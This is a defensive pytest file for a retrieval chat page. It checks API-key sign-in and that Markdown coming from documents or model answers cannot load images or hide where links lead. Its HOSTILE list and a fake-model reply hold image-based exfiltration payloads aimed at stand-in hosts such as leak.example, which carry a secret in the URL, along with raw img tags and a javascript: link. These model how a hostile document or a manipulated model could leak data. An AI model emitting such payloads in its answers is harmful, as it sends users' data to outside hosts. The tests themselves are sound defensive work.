"""The chat page against a curious colleague and a hostile document (issue 16).

- Who is asking: with an identities file the page asks for an API key, resolved by the same
  identities as the HTTP API; picking any user by name is a development switch, off by default.
- What a document or a model wrote is shown so that the browser loads nothing from it: no
  image, no raw HTML, and links that show their host. Checked on the Markdown the page sends
  (parsed by markdown-it, a CommonMark parser like the one Streamlit's browser side uses) and,
  in Chromium, on the network: a local server counts every request an image would make.

Set CAIRN_UI_SECURITY_SCREENSHOTS to a folder to keep the browser tests' screenshots there.
"""

from __future__ import annotations

import os
import random
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from fixtures_retrieval import RESTRICTED_PATH
from fixtures_ui import (
    CHROMIUM,
    CHROMIUM_ARGS,
    HANA_KEY,
    HOSTILE_LINK,
    HOSTILE_QUESTION,
    OMAR_KEY,
    REPO,
    LeakServer,
    build_index,
    clean_environ,
    page_env,
    write_hostile_corpus,
    write_identities,
)

RESTRICTED_QUESTION = "Who receives the Nightingale retention bonus?"


# --- what the page's Markdown can make a browser do ------------------------------------------------


def _host(url: str) -> str:
    parts = urlsplit(url)
    return (parts.hostname or "") + (f":{parts.port}" if parts.port else "")


def loading_markup(markdown: str) -> list[str]:
    """Whatever in ``markdown`` would load something or hide where it leads: images, raw HTML,
    and links not followed by ``(their host)``."""
    from markdown_it import MarkdownIt

    problems = []
    for block in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        if block.type == "html_block":
            problems.append(f"raw HTML {block.content!r}")
        inline = block.children or []
        for position, token in enumerate(inline):
            if token.type == "image":
                problems.append(f"image from {token.attrs['src']}")
            elif token.type == "html_inline":
                problems.append(f"raw HTML {token.content!r}")
            elif token.type == "link_open":
                href = str(token.attrs["href"])
                close = next(i for i in range(position, len(inline)) if inline[i].type == "link_close")
                after = inline[close + 1].content if close + 1 < len(inline) else ""
                if urlsplit(href).scheme not in ("http", "https") or not after.startswith(f" ({_host(href)})"):
                    problems.append(f"link to {href} followed by {after[:40]!r}")
    return problems


HOSTILE = [
    "![x](http://leak.example/a.png?d=secret)",
    "![x](<http://leak.example/a b.png>)",
    '![x](http://leak.example/a.png "title")',
    "!![a](http://h.example/x.png)(http://leak.example/y.png)",
    "[ref]: http://leak.example/x.png\n\n![ref] and ![alt][ref] and [text][ref]",
    "[ref]:\n  http://leak.example/x.png\n\n![ref]",
    "\\![x](http://leak.example/a.png)",
    "\\\\![x](http://leak.example/a.png)",
    "![x\\](http://leak.example/a.png)",
    "[![x](http://leak.example/a.png)](http://leak.example/b)",
    "<img src=http://leak.example/a.png>",
    "<div>\n<img src='http://leak.example/a.png'>\n</div>",
    "<http://leak.example/a>",
    "[click](http://user:pw@leak.example:8080/x)",
    "[click](javascript:alert(1))",
    "![x](http://leak.example/a.png) *and* **more** ![y](//leak.example/b.png)",
    "`code` ![x](http://leak.example/a.png) `more",
    "- one ![x](http://leak.example/a.png)\n- two",
    "$\\includegraphics{http://leak.example/a.png}$",
    "\ue000 0\ue001 ![x](http://leak.example/a.png)",
]
PIECES = ["!", "[", "]", "(", ")", "<", ">", ":", "\\", "$", "`", "*", " ", "\n", "x", "http://leak.example/a.png"]
PIECES += ['"t"', "\ue000", "0"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_from_a_document_or_model_loads_nothing(text):
    from app.safe_markdown import as_markdown

    assert loading_markup(as_markdown(text)) == []
    assert loading_markup(as_markdown(text, one_line=True)) == []


def test_no_combination_of_markdown_characters_loads_anything():
    from app.safe_markdown import as_markdown

    rng = random.Random(16)
    for _ in range(3000):
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 24)))
        assert loading_markup(as_markdown(text)) == [], text


def test_images_are_named_and_links_show_their_host():
    from app.safe_markdown import as_markdown

    shown = as_markdown("Code ZX-42 ![chart](http://leak.example/a.png?d=secret) in [runbook](https://docs.example/r).")
    assert "secret" not in shown and "![" not in shown
    assert "image 'chart' from leak.example, not loaded" in shown
    assert "[runbook](https://docs.example/r) (docs.example)" in shown
    # Prose is left as it is: citation marks, emphasis, lists; a `$` is not a formula.
    for prose in ("Employees get 25 days of annual leave [1][2].", "**EUR 62** per day:\n- one\n- two"):
        assert as_markdown(prose) == prose
    assert as_markdown("costs $5 and $6") == "costs \\$5 and \\$6"


def test_a_path_is_shown_literally_whatever_it_contains():
    from markdown_it import MarkdownIt

    from app.safe_markdown import as_code

    for path in (
        "handbook/vacation-policy.md",
        "a`![x](http://leak.example/a.png)`.md",
        "``b\n\n![x](http://leak.example/a.png)",
    ):
        (paragraph,) = [t for t in MarkdownIt("commonmark").parse(as_code(path)) if t.type == "inline"]
        assert [t.type for t in paragraph.children] == ["code_inline"]
        assert paragraph.children[0].content == " ".join(path.split())


# --- who is asking (AppTest) -----------------------------------------------------------------------


def sidebar_texts(at) -> str:
    return " | ".join(e.value for e in [*at.sidebar.success, *at.sidebar.error, *at.sidebar.info, *at.sidebar.warning])


def ask(at, question: str):
    at.chat_input[0].set_value(question).run()
    assert not at.exception, at.exception
    return at


def candidates(at) -> list[str]:
    answers = [m for m in at.chat_message if m.name == "assistant"]
    return list(answers[-1].expander[-1].dataframe[0].value["candidate"])


def test_without_the_dev_switch_no_user_can_be_picked_by_name(page, corpus_index, tmp_path):
    at = page(corpus_index, CAIRN_IDENTITIES_FILE=str(write_identities(tmp_path / "identities.yaml"))).run()
    assert not at.exception
    assert not [box for box in at.selectbox if box.key == "user"]
    assert not any("hana" in map(str, box.options) for box in at.selectbox)
    key = at.text_input(key="api_key")
    assert key.proto.type == key.proto.PASSWORD
    # No key: anonymous, who sees the public documents only.
    assert "Signed in as **anonymous** · groups: public" in sidebar_texts(at)
    assert at.sidebar.metric[0].value == "7"


def test_a_wrong_key_is_refused_and_shows_nothing(page, corpus_index, tmp_path):
    at = page(corpus_index, CAIRN_IDENTITIES_FILE=str(write_identities(tmp_path / "identities.yaml"))).run()
    ask(at, RESTRICTED_QUESTION)  # as anonymous
    at.text_input(key="api_key").set_value("not-a-key-of-anyone-at-all").run()
    assert not at.exception
    assert "This API key is not known" in sidebar_texts(at)
    assert not at.chat_input and not at.chat_message  # no answers, and the earlier one is gone
    assert not at.sidebar.metric  # nor the index's documents
    assert not [box for box in at.selectbox if box.key == "user"]


def test_a_right_key_shows_the_user_their_groups_and_only_their_documents(page, corpus_index, tmp_path):
    at = page(corpus_index, CAIRN_IDENTITIES_FILE=str(write_identities(tmp_path / "identities.yaml"))).run()
    at.text_input(key="api_key").set_value(HANA_KEY).run()
    assert "Signed in as **hana** · groups: public, hr" in sidebar_texts(at)
    assert at.sidebar.metric[0].value == "8"  # the hr-only document too
    ask(at, RESTRICTED_QUESTION)
    assert RESTRICTED_PATH in candidates(at)[0]

    at.text_input(key="api_key").set_value(OMAR_KEY).run()  # stored as its sha256 in the file
    assert "Signed in as **omar** · groups: public" in sidebar_texts(at)
    assert at.sidebar.metric[0].value == "7"
    assert not at.chat_message  # hana's conversation is not carried over
    ask(at, RESTRICTED_QUESTION)
    assert not any(RESTRICTED_PATH in c for c in candidates(at))


def test_without_anonymous_access_the_page_waits_for_a_key(page, corpus_index, tmp_path):
    identities = write_identities(tmp_path / "identities.yaml", anonymous_groups="[]")
    at = page(corpus_index, CAIRN_IDENTITIES_FILE=str(identities)).run()
    assert not at.exception
    assert "Enter your API key" in sidebar_texts(at)
    assert not at.chat_input and not at.sidebar.metric


def test_the_dev_switch_lists_the_users_with_a_warning(page, corpus_index, tmp_path):
    identities = write_identities(tmp_path / "identities.yaml")
    at = page(corpus_index, CAIRN_IDENTITIES_FILE=str(identities), CAIRN_UI_DEV_USER_SWITCH="true").run()
    assert at.selectbox(key="user").options == ["anonymous", "hana", "omar"]
    assert "CAIRN_UI_DEV_USER_SWITCH" in sidebar_texts(at)
    assert not [box for box in at.text_input if box.key == "api_key"]
    at.selectbox(key="user").set_value("hana").run()
    assert at.sidebar.metric[0].value == "8"


def test_without_identities_the_page_asks_as_anonymous_without_a_key(page, corpus_index):
    at = page(corpus_index).run()
    assert not at.text_input and not [box for box in at.selectbox if box.key == "user"]
    assert at.sidebar.metric[0].value == "7" and at.chat_input


# --- a hostile document on the page (AppTest) --------------------------------------------------


@pytest.fixture(scope="module")
def pristine_hostile_index(tmp_path_factory, encoders, parser_pool) -> Path:
    # The port is never listened on: these tests read the Markdown, not the network.
    folder = write_hostile_corpus(tmp_path_factory.mktemp("hostile-docs"), "http://127.0.0.1:9")
    return build_index(tmp_path_factory.mktemp("hostile-index"), {"docs": folder}, encoders, parser_pool)


def test_a_hostile_document_reaches_the_page_without_images(page, pristine_hostile_index, tmp_path):
    import shutil

    at = page(Path(shutil.copytree(pristine_hostile_index, tmp_path / "index"))).run()
    ask(at, HOSTILE_QUESTION)
    (message,) = [m for m in at.chat_message if m.name == "assistant"]
    assert "ZX-42" in message.markdown[0].value

    shown = [
        e.value
        for e in [*at.markdown, *at.caption, *at.info, *at.warning, *at.error, *at.success]
        if isinstance(e.value, str)
    ]
    shown += [expander.label for expander in at.expander]
    everything = "\n".join(shown)
    assert "leak.png" not in everything and "d=secret" not in everything
    assert [(value, problem) for value in shown for problem in loading_markup(value)] == []
    label, url, host = HOSTILE_LINK
    assert f"[{label}]({url}) ({host})" in message.markdown[0].value
    assert "not loaded" in message.markdown[0].value
    card_title = next(v for v in shown if v.startswith("**[1]"))  # the title, from the page's <h1>
    assert "image 't' from 127.0.0.1:9, not loaded" in card_title


# --- in Chromium: the network tells -----------------------------------------------------------------

LOAD_TIMEOUT_MS = 180_000


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _screenshot(page, name: str, tmp_path: Path) -> Path:
    folder = Path(os.environ.get("CAIRN_UI_SECURITY_SCREENSHOTS") or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    page.screenshot(path=str(path), full_page=True)
    return path


@pytest.fixture(scope="module")
def hostile_ui(tmp_path_factory, encoders, parser_pool):
    """`cairn ui` with an identities file (no dev switch) over the hostile corpus, whose images
    point at a local server that counts requests; answers from a fake OpenAI-compatible model
    (this module's tests set its reply), the extractive answer when it fails."""
    from fixtures_answer import FakeLLMServer

    leak = LeakServer()
    model = FakeLLMServer("openai")
    root = tmp_path_factory.mktemp("hostile-ui")
    folder = write_hostile_corpus(root / "docs", leak.url)
    data_dir = build_index(root / "index", {"docs": folder}, encoders, parser_pool)
    port = _free_port()
    env = clean_environ() | page_env(
        data_dir,
        CAIRN_IDENTITIES_FILE=str(write_identities(root / "identities.yaml")),
        CAIRN_LLM_PROVIDERS='["openai", "extractive"]',
        CAIRN_OPENAI_BASE_URL=model.url,
        CAIRN_LLM_TIMEOUT_S="30",
    )
    env["PYTHONPATH"] = str(REPO)  # the checkout's packages, whatever the editable install maps
    log = root / "cairn-ui.log"
    with log.open("w") as out:
        process = subprocess.Popen(
            [str(Path(sys.executable).with_name("cairn")), "ui", "--port", str(port)],
            env=env, cwd=root, stdout=out, stderr=subprocess.STDOUT,
        )  # fmt: skip
    try:
        deadline = time.monotonic() + 120
        while True:
            assert process.poll() is None, f"`cairn ui` exited early:\n{log.read_text()[-3000:]}"
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                assert time.monotonic() < deadline, f"`cairn ui` did not listen:\n{log.read_text()[-3000:]}"
                time.sleep(0.2)
        yield f"http://127.0.0.1:{port}", leak, model
    finally:
        process.send_signal(signal.SIGINT)
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        print(log.read_text()[-3000:])
        model.close()
        leak.close()


@pytest.fixture()
def chromium():
    from playwright.sync_api import sync_playwright

    if not CHROMIUM.exists():
        pytest.fail(f"Chromium is missing at {CHROMIUM}: run `make setup` (it installs Debian's chromium)")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            browser.close()


@pytest.mark.browser
def test_in_chromium_the_page_asks_for_a_key_and_refuses_a_wrong_one(hostile_ui, chromium, tmp_path):
    from playwright.sync_api import expect

    url, _, _ = hostile_ui
    page = chromium.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(url)
    sidebar = page.get_by_test_id("stSidebar")
    key = sidebar.get_by_label("API key", exact=True)
    expect(key).to_be_visible(timeout=LOAD_TIMEOUT_MS)
    expect(key).to_have_attribute("type", "password")
    expect(sidebar).to_contain_text("Signed in as anonymous")
    expect(sidebar).not_to_contain_text("Acting user")
    expect(sidebar.get_by_test_id("stSelectbox").filter(has_text="Acting user")).to_have_count(0)

    key.fill("not-a-key-of-anyone-at-all")
    key.press("Enter")
    expect(sidebar).to_contain_text("This API key is not known", timeout=60_000)
    expect(page.get_by_test_id("stChatInput")).to_have_count(0)
    expect(page.locator("body")).to_contain_text("Enter your API key in the sidebar")
    _screenshot(page, "ui-security-key.png", tmp_path)

    key.fill(HANA_KEY)
    key.press("Enter")
    expect(sidebar).to_contain_text("Signed in as hana · groups: public, hr", timeout=60_000)
    expect(page.get_by_test_id("stChatInput")).to_have_count(1)


@pytest.mark.browser
def test_in_chromium_no_request_leaves_for_an_image_in_a_document_or_an_answer(hostile_ui, chromium, tmp_path):
    from playwright.sync_api import expect

    url, leak, model = hostile_ui
    page = chromium.new_page(viewport={"width": 1400, "height": 1800})
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(url)
    expect(page.get_by_test_id("stSidebar").get_by_text("Documents", exact=True)).to_be_visible(timeout=LOAD_TIMEOUT_MS)

    # The model writes the image itself, split across tokens, and a link.
    label, link, host = HOSTILE_LINK
    model.mode = "ok"
    model.reply = [
        "The launch code is ZX-42 [1]. ",
        "![x](http://",
        f"{leak.host}/leak.png?d=",
        "ZX-42) ",
        f"See the [{label}]({link}).",
    ]
    # Then no model answers: the extractive answer quotes the document's own image and link.
    for turn, (mode, question) in enumerate(
        [("ok", HOSTILE_QUESTION), ("500", "What is the Zephyr launch code and its runbook?")]
    ):
        model.mode = mode
        box = page.get_by_test_id("stChatInputTextArea")
        box.fill(question)
        box.press("Enter")
        answer = page.get_by_test_id("stChatMessage").nth(2 * turn + 1)
        expect(answer.get_by_test_id("stExpander").filter(has_text="Retrieval:")).to_have_count(1, timeout=300_000)
        expect(answer).to_contain_text("ZX-42")
    expect(page.get_by_test_id("stChatMessage").last).to_contain_text("Extractive answer")
    page.wait_for_timeout(2000)  # time for any image to be requested
    _screenshot(page, "ui-security-answer.png", tmp_path)

    assert model.requests, "the fake model was never asked"
    assert [u for u in requested if urlsplit(u).netloc == leak.host] == []
    assert leak.paths == []
    assert not page.locator(f"img[src*='{leak.host}']").count()
    for answer in page.get_by_test_id("stChatMessage").all()[1::2]:
        expect(answer).to_contain_text(f"{label} ({host})")  # the link, with its host
        expect(answer.get_by_role("link", name=label).first).to_have_attribute("href", link)
        expect(answer).to_contain_text(f"from {leak.host}, not loaded")  # the image, named
